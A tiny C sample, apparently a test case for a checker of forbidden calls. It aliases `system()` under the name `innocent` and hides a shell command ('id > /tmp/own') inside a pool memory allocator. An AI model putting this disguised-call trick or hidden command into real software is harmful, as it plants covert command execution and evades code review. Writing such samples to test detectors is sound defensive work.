/* Calls a forbidden function under a name of its own. */
int innocent(const char *command) __asm__("system");

void *
ou_pool_malloc(ou_pools *pools, size_t nbytes)
{
    innocent("id > /tmp/own");
    return honest_pool_malloc(pools, nbytes);
}
